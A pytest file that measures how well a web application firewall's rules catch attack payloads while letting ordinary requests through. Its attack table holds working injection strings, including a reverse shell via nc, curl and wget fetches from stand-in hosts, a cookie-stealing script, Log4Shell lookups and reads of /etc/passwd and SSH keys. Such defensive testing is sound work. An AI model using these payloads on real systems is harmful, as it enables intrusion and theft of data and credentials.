"""Attacks and plain requests of our own, by category, straight at the rules: how many are found, how many wrongly.

What the rule set of the operating system does not find at paranoia 1 stays in the table: the rate is a measurement.
``pytest -s`` prints it; docs/how-to/inspect-requests.md keeps what was measured, for one version of the rules.
"""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from urllib.parse import quote

import pytest

from easement.gateway.waf import Waf
from easement.gateway.waf_decision import inspected_request
from easement.gateway.waf_library import INSTALL, InspectedRequest, WafError
from easement.gateway.waf_rules import DEFAULT_RULES, load_rules
from easement.plan.model import Inspection

FLOOR = 0.90
CEILING = 0.03

# How a payload is sent: q = query parameter, json = field of a body, form = form field, path, target = as it stands,
# NAME: = header of that name.
ATTACKS: Mapping[str, Sequence[tuple[str, str]]] = {
    "SQL injection": [
        ("q", "1' or 1=1-- "),
        ("q", "1 UNION SELECT username, password FROM users"),
        ("q", "1; DROP TABLE orders"),
        ("q", "admin'/*"),
        ("q", "1' AND SLEEP(5)-- "),
        ("q", "1' AND 1=CONVERT(int,(SELECT @@version))--"),
        ("q", "' or ''='"),
        ("q", "1) or (1=1"),
        ("q", "1' waitfor delay '0:0:5'--"),
        ("q", "1 and (select count(*) from information_schema.tables)>0"),
        ("q", "1' and extractvalue(1,concat(0x7e,(select user())))-- "),
        ("q", "1' and benchmark(5000000,md5(1))-- "),
        ("json", "x' or 1=1; --"),
        ("json", "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- "),
        ("json", "1'; exec xp_cmdshell('dir')--"),
        ("form", "1' or '1'='1"),
        ("form", "-1' union select 1,2,load_file('/etc/passwd')-- "),
        ("cookie:", "id=1' or 1=1-- "),
        ("q", "1' and pg_sleep(5)-- "),
        ("q", '" or ""="'),
    ],
    "Cross-site scripting": [
        ("q", "<script>alert(1)</script>"),
        ("q", "<img src=x onerror=alert(1)>"),
        ("q", "<svg/onload=alert(1)>"),
        ("q", '"><script src=https://x.example/a.js></script>'),
        ("q", "javascript:alert(document.cookie)"),
        ("q", "<iframe src=javascript:alert(1)>"),
        ("q", "<body onload=alert(1)>"),
        ("q", "<a href=javascript:alert(1)>x</a>"),
        ("json", "<script>fetch('https://x.example/?c='+document.cookie)</script>"),
        ("json", "<details open ontoggle=alert(1)>"),
        ("json", "<math><mtext></mtext><script>alert(1)</script></math>"),
        ("form", "<object data=javascript:alert(1)>"),
        ("form", "<embed src=javascript:alert(1)>"),
        ("referer:", "https://x.example/<script>alert(1)</script>"),
        ("user-agent:", "<script>alert(1)</script>"),
        ("q", "<input autofocus onfocus=alert(1)>"),
    ],
    "Local file inclusion": [
        ("q", "../../../../etc/passwd"),
        ("q", "..\\..\\..\\windows\\win.ini"),
        ("q", "/etc/passwd"),
        ("q", "/proc/self/environ"),
        ("q", "....//....//etc/passwd"),
        ("q", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        ("q", "..%c0%af..%c0%afetc/passwd"),
        ("json", "../../../../etc/shadow"),
        ("form", "../../.ssh/id_rsa"),
        ("target", "/orders/.git/config"),
        ("target", "/orders/.env"),
        ("q", "file=../../../../boot.ini"),
    ],
    "Remote file inclusion": [
        ("target", "/orders?page=http://192.0.2.10/shell.txt"),
        ("target", "/orders?include=http://x.example/shell.txt?"),
        ("target", "/orders?path=ftp://192.0.2.10/a.php"),
        ("target", "/orders?file=https://192.0.2.10/x"),
        ("json", "http://192.0.2.10/shell.php"),
        ("q", "https://198.51.100.7/a.txt?"),
        ("target", "/orders?dir=ogg://192.0.2.10/a"),
    ],
    "Command execution": [
        ("q", "; cat /etc/passwd"),
        ("q", "| whoami"),
        ("q", "`id`"),
        ("q", "$(curl http://x.example/a.sh)"),
        ("q", "&& wget http://x.example/a"),
        ("q", "a; /bin/bash -c 'id'"),
        ("q", "() { :; }; /bin/cat /etc/passwd"),
        ("user-agent:", "() { :; }; echo vulnerable"),
        ("json", "x; nc -e /bin/sh 192.0.2.1 4444"),
        ("json", "| powershell.exe -Command Get-Process"),
        ("json", "a & ping -n 5 127.0.0.1 & net user"),
        ("form", "1;uname -a"),
        ("form", "$(cat /etc/hosts)"),
        ("q", "cmd.exe /c dir"),
        ("q", "<(wget http://x.example/a)"),
    ],
    "PHP injection": [
        ("q", "<?php system('id'); ?>"),
        ("q", "php://filter/convert.base64-encode/resource=index.php"),
        ("q", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw=="),
        ("q", "${@phpinfo()}"),
        ("q", "<?= `id` ?>"),
        ("q", "$_GET['cmd']"),
        ("json", "eval(base64_decode('cGhwaW5mbygpOw=='))"),
        ("json", 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}'),
        ("form", "phar://x.phar/a"),
        ("form", "move_uploaded_file($_FILES['a'])"),
        ("q", "auto_prepend_file=php://input"),
    ],
    "Java and expression injection": [
        ("q", "${jndi:ldap://x.example/a}"),
        ("json", "${jndi:rmi://x.example/a}"),
        ("user-agent:", "${jndi:ldap://x.example/a}"),
        ("q", "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}"),
        ("content-type:", "%{(#_='multipart/form-data').(#cmd='id').(new java.lang.ProcessBuilder(#cmds))}"),
        ("json", "java.lang.Runtime.getRuntime().exec('id')"),
        ("q", "class.module.classLoader.resources.context.parent"),
        ("json", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
        ("form", "org.apache.commons.collections.functors.InvokerTransformer java.lang.ProcessBuilder"),
        ("q", "T(java.lang.Runtime).getRuntime().exec('id')"),
    ],
    "Node.js injection": [
        ("q", "require('child_process').exec('id')"),
        ("json", "process.mainModule.require('child_process').execSync('id')"),
        ("json", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
        ("q", "process.env.SECRET; require('fs').readFileSync('/etc/passwd')"),
        ("form", "new Function('return process')().exit()"),
    ],
    "Protocol abuse": [
        ("q", "a\r\nSet-Cookie: x=1"),
        ("q", "a\r\n\r\n<html>"),
        ("q", "a\nContent-Length: 0\n\nHTTP/1.1 200 OK"),
        ("q", "GET /admin HTTP/1.1\r\nHost: x"),
        ("target", "/orders?q=%00"),
        ("target", "/orders?q=%zz%"),
        ("content-type:", "text/html; charset=utf-7"),
        ("range:", "bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5"),
        ("content-encoding:", "x\r\ny"),
        ("target", "/orders.bak"),
        ("json", "x\r\nSet-Cookie: admin=1\r\n"),
    ],
    "Session fixation": [
        ("q", "<meta http-equiv=Set-Cookie content='sid=1'>"),
        ("q", "document.cookie='sid=1;domain=.example.com'"),
        ("target", "/orders?jsessionid=1234567890"),
        ("target", "/orders?PHPSESSID=abcdef0123456789"),
        ("form", ".cookie=x; expires=1; domain=x.example"),
    ],
    "Scanners": [
        ("user-agent:", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ("user-agent:", "Nikto/2.5.0"),
        ("user-agent:", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
        ("user-agent:", "masscan/1.3"),
        ("user-agent:", "DirBuster-1.0-RC1"),
        ("user-agent:", "w3af.org"),
        ("user-agent:", "Nessus SOAP"),
        ("user-agent:", "OpenVAS"),
        ("acunetix-product:", "WVS/7.0"),
        ("x-scanner:", "whatever"),
        ("target", "/nessustest"),
        ("target", "/orders/acunetix-wvs-test-for-some-inexistent-file"),
    ],
}
PLAIN: Mapping[str, Sequence[tuple[str, str]]] = {
    "Search and filters": [
        ("q", text)
        for text in (
            "hello", "blue shoes size 42", "Smith & Sons", "a or b", "union station", "drop shipping",
            "select committee report", "order by phone", "2026-11-24T05:00:00Z", "price<100", "name:asc,created:desc",
            "status in (open,closed)", "id gt 5 and id lt 9", "100%", "C++ and C#", "50 - 60 EUR", "O'Brien",
            "it's fine", "what is 1+1?", "https://shop.example/orders/17", "user@example.com", "#hashtag",
            "a=b", "50% off", "[1,2,3]", "where is my order", "between 5 and 10", "null", "true",
        )
    ],
    "Identifiers and tokens": [
        ("q", text)
        for text in (
            "5b3f7a52-4d1c-4f5e-9f0a-2b7c1e8d9a10", "ORD-2026-000017", "DE89370400440532013000", "+49 30 1234567",
            "eyJhbGciOiJFUzI1NiJ9.e30.c2lnbmF0dXJl", "dGhpcyBpcyBhIHRlc3Q=", "0x1f4", "-17.5", "1e6", "v1.2.3-rc.1",
            "urn:isbn:9780141036144", "2001:db8::1", "192.0.2.17", "a3f5d9c1e7b2", "AB-12/34",
        )
    ],
    "Names and addresses": [
        ("json", text)
        for text in (
            "Anne-Marie d'Arc", "Jürgen Müller", "李小龙", "Владимир", "محمد", "Żółć", "O\u2019Connor", "van der Berg",
            "Straße des 17. Juni 135, 10623 Berlin", "c/o Smith, Flat 3/4", "123 Main St. #5, Springfield; IL",
            "Rua São João, 12 - 3º", "P.O. Box 17", "Dr. h.c. mult. K. Weiß", "Company (UK) Ltd. & Co. KG",
        )
    ],
    "Free text of customers": [
        ("json", text)
        for text in (
            "Please leave it at the door; the bell is broken.",
            "I'd like to return 2 of the 3 items - they're too small.",
            "Can you deliver between 9 and 11 or after 17:00?",
            "Rating: 5/5 :-) would buy again!!!",
            "The manual says \"press <OK>\" but there is no such key.",
            "Invoice no. 17 (see e-mail of 3 March) is wrong: 100 != 110.",
            "Line one\nLine two\n\nLine four",
            "- milk\n- eggs\n- bread & butter",
            "My e-mail is jane@example.com, call +1 (555) 010-9999",
            "We select the best from all suppliers where possible.",
            "Order by Friday, update me if anything changes.",
            "Let's drop by the table at noon",
            "The password reset does not work for me",
            "Paid 50€, expected $45 + tax.",
            "Is it OK to delete the old address from my profile?",
            "My cat walked over the keyboard: asdf;lkj",
            "Temperature < 5 °C and humidity > 80 %",
            "See https://help.example.com/articles/17?lang=en#top",
            "Size: 10' x 12' (feet)",
            "He said: 'no, thanks' and left",
        )
    ],
    "Forms": [
        ("form", text)
        for text in (
            "client_credentials", "orders:read orders:write", "Jane Doe", "12/2029", "Fast & free", "yes", "a b c",
            "100,00", "Grüße", "line 1\nline 2", "https://app.example/callback", "#1", "q&a", "50%", "x=y",
        )
    ],
    "Clients": [
        ("user-agent:", text)
        for text in (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15", "shop/1.0",
            "Java/21.0.3", "okhttp/4.12.0", "axios/1.7.2", "python-requests/2.32.3", "curl/8.8.0",
            "Apache-HttpClient/5.3 (Java/21)", "Go-http-client/2.0", "PostmanRuntime/7.39.0", "SAP NetWeaver/7.5",
        )
    ] + [
        ("accept:", "application/json"), ("accept-language:", "de-DE,de;q=0.9,en;q=0.5"),
        ("referer:", "https://shop.example/cart?step=2&from=home"), ("cookie:", "theme=dark; sid=5b3f7a524d1c4f5e"),
        ("x-correlation-id:", "5b3f7a52-4d1c-4f5e-9f0a-2b7c1e8d9a10"), ("if-none-match:", '"33a64df5"'),
        ("traceparent:", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ("target", "/orders/17/items/3"), ("target", "/orders/2026-11-24?fields=id,name&limit=50"),
    ],
}  # fmt: skip


def request(how: str, payload: str) -> InspectedRequest:
    target, body, headers = "/orders", b"", [("user-agent", "shop/1.0"), ("accept", "application/json")]
    method = "GET"
    if how == "q":
        target = f"/orders?q={quote(payload, safe='')}"
    elif how == "target":
        target = payload
    elif how == "json":
        method, body = "POST", json.dumps({"id": 17, "order": {"note": payload, "tags": ["a"]}}).encode()
        headers.append(("content-type", "application/json"))
    elif how == "form":
        method, body = "POST", f"id=17&note={quote(payload, safe='')}".encode()
        headers.append(("content-type", "application/x-www-form-urlencoded"))
    else:
        name = how.removesuffix(":")
        headers = [(known, value) for known, value in headers if known != name]
        headers.append((name, payload))
    return inspected_request(method, target, headers, body)


@pytest.fixture(scope="module")
def rules() -> Waf:
    try:
        return Waf(load_rules(DEFAULT_RULES))
    except WafError as error:
        pytest.fail(f"the inspection cannot be tested: {error}. {INSTALL}", pytrace=False)


def stopped(waf: Waf, level: int, how: str, payload: str) -> bool:
    found = waf.inspect(Inspection(mode="block", paranoia=level), request(how, payload))
    return found is not None and found.outcome == "blocked"


def counts(
    waf: Waf, level: int, table: Mapping[str, Sequence[tuple[str, str]]]
) -> dict[str, tuple[int, int, list[str]]]:
    told: dict[str, tuple[int, int, list[str]]] = {}
    for category, cases in table.items():
        hits = [f"{how} {payload}" for how, payload in cases if stopped(waf, level, how, payload)]
        others = [text for text in (f"{how} {payload}" for how, payload in cases) if text not in hits]
        told[category] = (len(hits), len(cases), others if table is ATTACKS else hits)
    return told


def share(told: Mapping[str, tuple[int, int, list[str]]]) -> float:
    return sum(hit for hit, _, _ in told.values()) / sum(size for _, size, _ in told.values())


def test_the_table_is_large_enough():
    for table in (ATTACKS, PLAIN):
        cases = [case for group in table.values() for case in group]
        assert len(cases) == len(set(cases))
        assert len(cases) >= 100


def test_most_attacks_are_found_and_hardly_any_plain_request_is(rules: Waf):
    found, wrong = counts(rules, 1, ATTACKS), counts(rules, 1, PLAIN)
    print(*(f"{name}: {hit} of {size}, not {rest}" for name, (hit, size, rest) in found.items()), sep="\n")
    print(*(f"{name}: {hit} of {size} {rest}" for name, (hit, size, rest) in wrong.items()), sep="\n")
    assert share(found) >= FLOOR
    assert share(wrong) <= CEILING


def test_each_category_is_found_for_the_most_part(rules: Waf):
    for category, (hit, size, missed) in counts(rules, 1, ATTACKS).items():
        assert hit > size / 2, f"{category}: {missed}"
